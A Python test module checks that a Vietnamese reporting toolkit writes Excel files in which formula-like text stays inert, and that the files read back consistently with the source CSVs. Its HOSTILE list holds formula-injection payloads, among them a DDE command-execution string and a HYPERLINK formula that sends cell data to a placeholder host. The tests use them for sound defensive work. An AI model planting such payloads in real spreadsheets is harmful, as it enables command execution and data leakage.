"""Excel files the kit writes (`baocao new-year` templates, the shipped .xlsx forms): text that looks like a
formula stays inert text that reads back unchanged, numbers stay numbers, and the layout matches the CSV."""
from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from baocao.indicators import read_indicators
from baocao.readers import cell_text, read_table
from baocao.register import load_register
from baocao.tablefiles import indicators_workbook, register_workbook

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+84 912 345 678",
           "-", "- Không gửi", "@SUM(A1:A9)", "\tTab đầu ô", "\rCR đầu ô"]


def saved(book: openpyxl.Workbook, path: Path) -> Path:
    book.save(path)
    return path


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.mark.parametrize("writer", [register_workbook, indicators_workbook])
def test_formula_like_text_is_written_as_inert_text_and_reads_back_unchanged(writer, tmp_path):
    header = [["STT", "Tên cơ quan", "Ghi chú"], ["", "", ""]]
    table = header + [[str(i), text, text] for i, text in enumerate(HOSTILE, start=1)]
    path = saved(writer(table), tmp_path / "bang.xlsx")

    assert "<f>" not in sheet_xml(path), "no cell may be stored as a formula"
    sheet = openpyxl.load_workbook(path).active
    for r, text in enumerate(HOSTILE, start=3):
        cell = sheet.cell(r, 2)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    read, problems = read_table(path)
    assert problems == []  # in particular no «ô chứa công thức»
    assert [row[1] for row in read.rows[2:]] == [text.strip() for text in HOSTILE]  # the reader trims spaces only


def test_numbers_stay_number_cells_and_plain_text_gets_no_prefix(tmp_path):
    table = [["Mã chỉ số", "Giá trị", "Ghi chú"], ["a", "-12", "Tây Ninh"], ["b", "-1.50", "1765/BC-DV"], ["c", "66.0", ""]]
    path = saved(indicators_workbook(table), tmp_path / "chi-so.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [sheet.cell(r, 2).value for r in (2, 3, 4)] == [-12, -1.5, 66.0]
    assert not any(sheet.cell(r, 3).quotePrefix for r in (2, 3))
    read, _ = read_table(path)
    assert [cell_text(row[1]) for row in read.rows[1:]] == ["-12", "-1.50", "66.0"]


def rows(name: str) -> list[list[str]]:
    return list(csv.reader((ROOT / "data" / "2024" / f"{name}.csv").read_text(encoding="utf-8").splitlines()))


def test_the_written_register_reads_as_the_csv_does(tmp_path):
    path = saved(register_workbook(rows("so-theo-doi")), tmp_path / "so-theo-doi.xlsx")
    from_excel, warnings = load_register(path, 2024)
    from_csv, _ = load_register(ROOT / "data" / "2024" / "so-theo-doi.csv", 2024)
    assert warnings == []
    same = [c for c in from_csv.columns if not c.endswith("_text")]  # dates as typed: 27/5/2024 vs 27/05/2024
    assert from_excel[same].equals(from_csv[same])


def test_the_written_indicators_read_as_the_csv_does(tmp_path):
    path = saved(indicators_workbook(rows("chi-so-quoc-gia")), tmp_path / "chi-so-quoc-gia.xlsx")
    from_excel, _ = read_indicators(path)
    from_csv, _ = read_indicators(ROOT / "data" / "2024" / "chi-so-quoc-gia.csv")
    assert {k: v.facts(True) for k, v in from_excel.items()} == {k: v.facts(True) for k, v in from_csv.items()}
